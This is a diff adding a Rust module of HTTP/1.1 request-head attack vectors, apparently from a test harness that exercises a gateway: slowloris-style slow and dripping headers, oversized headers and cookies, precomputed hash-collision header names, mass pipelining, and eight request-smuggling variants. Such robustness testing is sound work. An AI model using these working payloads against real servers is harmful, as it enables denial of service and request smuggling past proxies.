@@ -1,0 +1,184 @@
+//! Vectors in the head of an HTTP/1.1 request.
+
+use std::fmt::Write;
+use std::time::Duration;
+
+use super::connections::get;
+use super::ground::{Attacker, End};
+use super::http_1::{drip, hold, write};
+
+/// Opens, or says that it could not.
+macro_rules! open {
+    ($attacker:expr) => {
+        match $attacker.open().await {
+            Some(stream) => stream,
+            None => return End::NotOpened,
+        }
+    };
+}
+pub(super) use open;
+
+/// A header that gets a field every second and never ends.
+pub(super) async fn slow(attacker: Attacker) -> End {
+    let mut stream = open!(attacker);
+    let begin = format!("GET {} HTTP/1.1\r\nHost: {}\r\n", attacker.path(), attacker.host());
+    attacker.requested(1);
+    let more = (0..).map(|n| format!("X-{n}: a\r\n"));
+    let pieces = std::iter::once(begin).chain(more);
+    drip(&attacker, &mut stream, pieces, Duration::from_secs(1)).await
+}
+
+/// A large header a byte at a time, each in a packet of its own, as fast as it goes: whoever reads
+/// all of it again for each byte is busy for long.
+pub(super) async fn fast_drip(attacker: Attacker) -> End {
+    let mut stream = open!(attacker);
+    let mut head = format!("GET {} HTTP/1.1\r\nHost: {}\r\n", attacker.path(), attacker.host());
+    for n in 0..40 {
+        let _ = write!(head, "X-{n}: {}\r\n", "a".repeat(180));
+    }
+    head += "\r\n";
+    attacker.requested(1);
+    let bytes = head.into_bytes().into_iter().map(|byte| [byte]);
+    drip(&attacker, &mut stream, bytes, Duration::ZERO).await
+}
+
+/// More header than anybody needs, in four forms by place: one field of a megabyte, ten thousand
+/// fields, a cookie of two hundred kilobytes, an address of a hundred.
+pub(super) async fn huge(attacker: Attacker) -> End {
+    let mut stream = open!(attacker);
+    let host = attacker.host();
+    let mut head = match attacker.place % 4 {
+        3 => format!("GET /?{} HTTP/1.1\r\nHost: {host}\r\n", "a".repeat(100_000)),
+        _ => format!("GET {} HTTP/1.1\r\nHost: {host}\r\n", attacker.path()),
+    };
+    match attacker.place % 4 {
+        0 => {
+            let _ = write!(head, "X-Large: {}\r\n", "a".repeat(1 << 20));
+        }
+        1 => (0..10_000).for_each(|n| {
+            let _ = write!(head, "X-{n}: a\r\n");
+        }),
+        2 => {
+            let _ = write!(head, "Cookie: {}\r\n", "name=value; ".repeat(17_000));
+        }
+        _ => {}
+    }
+    head += "\r\n";
+    once(&attacker, &mut stream, &head).await
+}
+
+/// Fields whose names fall into one place of a hash table without a secret of its own: FNV-1a as the
+/// `http` library keys its table, and cookies that collide under the times-31 hash of older
+/// platforms.
+pub(super) async fn colliding(attacker: Attacker) -> End {
+    let mut stream = open!(attacker);
+    let host = attacker.host();
+    let mut head = format!("GET {} HTTP/1.1\r\nHost: {host}\r\n", attacker.path());
+    for name in colliding_names(80) {
+        let _ = write!(head, "{name}: a\r\n");
+    }
+    // `Aa` and `BB` have the same hash, and so has every sequence of them.
+    let cookies = (0..256_u32).map(|n| {
+        let name: String = (0..8).map(|bit| if n >> bit & 1 == 0 { "Aa" } else { "BB" }).collect();
+        name + "=1"
+    });
+    let cookies: Vec<String> = cookies.collect();
+    let _ = write!(head, "Cookie: {}\r\n\r\n", cookies.join("; "));
+    once(&attacker, &mut stream, &head).await
+}
+
+/// Names with the same lowest fifteen bits of their hash.
+fn colliding_names(how_many: usize) -> Vec<String> {
+    static NAMES: std::sync::OnceLock<Vec<String>> = std::sync::OnceLock::new();
+    let bucket = |name: &str| {
+        // The library hashes which kind of name it is (one of its own or not) before the name.
+        let kind = 1_u64.to_le_bytes();
+        let bytes = kind.iter().chain(name.as_bytes());
+        let hash = bytes.fold(0xcbf2_9ce4_8422_2325_u64, |hash, byte| {
+            (hash ^ u64::from(*byte)).wrapping_mul(0x0000_0100_0000_01b3)
+        });
+        hash & 0x7fff
+    };
+    // One name in 32 768 falls into a place: eighty take three million tries, some tens of
+    // milliseconds, once.
+    let names = NAMES.get_or_init(|| {
+        let all = (0..u32::MAX).map(|n| format!("x-{n:x}"));
+        all.filter(|name| bucket(name) == 7).take(80).collect()
+    });
+    names.iter().take(how_many).cloned().collect()
+}
+
+/// A hundred requests in one go, of which nobody waits for the answers.
+pub(super) async fn pipelining(attacker: Attacker) -> End {
+    let mut stream = open!(attacker);
+    let head = get(&attacker, attacker.path());
+    let hundred = head.repeat(100);
+    for _ in 0..20 {
+        if !attacker.may_go_on() {
+            return End::Held;
+        }
+        attacker.requested(100);
+        if let Err(end) = write(&attacker, &mut stream, hundred.as_bytes()).await {
+            return end;
+        }
+    }
+    hold(&attacker, &mut stream).await
+}
+
+/// Requests that two servers could read differently, a few of each kind by place. (The whole
+/// corpus, with servers behind, is a test of its own.) `/smuggled` must never be asked for at the
+/// origin.
+pub(super) async fn smuggling(attacker: Attacker) -> End {
+    let mut stream = open!(attacker);
+    let host = attacker.host();
+    let inner = format!("GET /smuggled HTTP/1.1\r\nHost: {host}\r\n\r\n");
+    let length = inner.len();
+    let post = format!("POST / HTTP/1.1\r\nHost: {host}\r\n");
+    let sample = match attacker.place % 8 {
+        0 => format!(
+            "{post}Content-Length: {}\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n{inner}",
+            length + 5
+        ),
+        1 => format!("{post}Content-Length: 0\r\nContent-Length: {length}\r\n\r\n{inner}"),
+        2 => {
+            format!("{post}Transfer-Encoding: xchunked\r\nContent-Length: {length}\r\n\r\n{inner}")
+        }
+        3 => format!("{post}Transfer-Encoding : chunked\r\n\r\n0\r\n\r\n{inner}"),
+        4 => format!("{post}X-Folded: a\r\n Content-Length: {length}\r\n\r\n{inner}"),
+        5 => format!("{post}Content-Length: {length}\nX: y\r\n\r\n{inner}"),
+        6 => format!(
+            "{post}Transfer-Encoding: chunked\r\n\r\n0;\n{length:x}\r\n{inner}\r\n0\r\n\r\n"
+        ),
+        _ => format!(
+            "GET / HTTP/1.1\r\nHost: {host}\r\nHost: elsewhere.example\r\nContent-Length: {length}\
+             \r\n\r\n{inner}"
+        ),
+    };
+    once(&attacker, &mut stream, &sample).await
+}
+
+/// Sends one request and waits for what the gate makes of it.
+async fn once(attacker: &Attacker, stream: &mut super::dial::Stream, head: &str) -> End {
+    attacker.requested(1);
+    if let Err(end) = write(attacker, stream, head.as_bytes()).await {
+        return end;
+    }
+    hold(attacker, stream).await
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    /// The names meet in one place of the table that they were made for, until it defends itself.
+    #[test]
+    fn colliding_names_are_valid_and_differ() {
+        let names = colliding_names(80);
+        let mut map = http::HeaderMap::new();
+        for name in &names {
+            let name: http::HeaderName = name.parse().unwrap();
+            map.insert(name, http::HeaderValue::from_static("a"));
+        }
+        assert_eq!(map.len(), 80);
+    }
+}
